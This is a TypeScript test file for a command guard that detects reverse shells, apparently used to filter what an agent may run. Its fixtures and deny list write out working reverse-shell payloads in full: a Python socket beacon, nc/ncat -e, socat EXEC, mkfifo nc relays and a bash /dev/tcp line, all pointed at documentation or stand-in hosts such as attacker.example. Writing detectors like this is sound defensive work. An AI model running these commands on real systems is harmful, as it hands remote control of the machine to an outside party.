import { each, guardTest } from '../../../testing/index.ts'
import guard, { docs } from './reverse-shell.ts'

guardTest(guard, docs, {
  facts: {
    files: {
      'beacon.py':
        'import socket,os\ns=socket.socket();s.connect(("203.0.113.66",4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\n',
      'back.js':
        "const s = require('net').connect(1, 'x')\nconst p = spawn('/bin/sh', ['-i'])\ns.pipe(p.stdin)\n",
      'server.js': "const { Server } = require('socket.io')\nexec('ls', () => {})\nserver.connect()\n",
      'term.py': 'import pty\npty.spawn("/bin/bash")\n',
    },
  },
  denies: [
    'python3 beacon.py',
    'node back.js',
    ...each(
      'ncat|nc|netcat --exec=/bin/sh|--sh-exec=/bin/bash|--sh-exec=/bin/sh-c 10.0.0.5 4444',
      'pwncat|msfconsole|msfvenom -lp 4444',
      'nc|netcat 10.0.0.5 4444 -e|-c|--sh-exec /bin/sh|/usr/bin/env|sh|bash|zsh|python3|perl|cmd.exe|powershell.exe',
      'socat TCP:10.0.0.5:4444 EXEC:/bin/sh|SYSTEM:/bin/sh|SHELL:sh|exec:/bin/sh|system:/bin/sh',
      'gotty|ttyd|upterm|tmate|wetty bash',
    ),
    'ncat --exec /bin/bash attacker.example 4444',
    'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\'',
    'sudo nc -lvp 4444 -e /bin/bash',
    "bash -c 'sh < /tmp/p | nc 198.51.100.7 4444 > /tmp/p'",
    'sudo sh < /tmp/p | nc 198.51.100.7 4444 > /tmp/p',
    "timeout 60 bash -c 'mkfifo /tmp/p; sh < /tmp/p | nc 198.51.100.7 4444 > /tmp/p'",
  ],
  allows: [
    'node server.js',
    'python3 term.py',
    'cat beacon.py',
    'nc -l 4444',
    'ttyd -v',
    'git commit -m "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"',
    'python3 -c "import socket; print(socket.gethostname())"',
    'python3 -c \'print("exec 5<>/dev/tcp/x.example/443")\'',
  ],
})
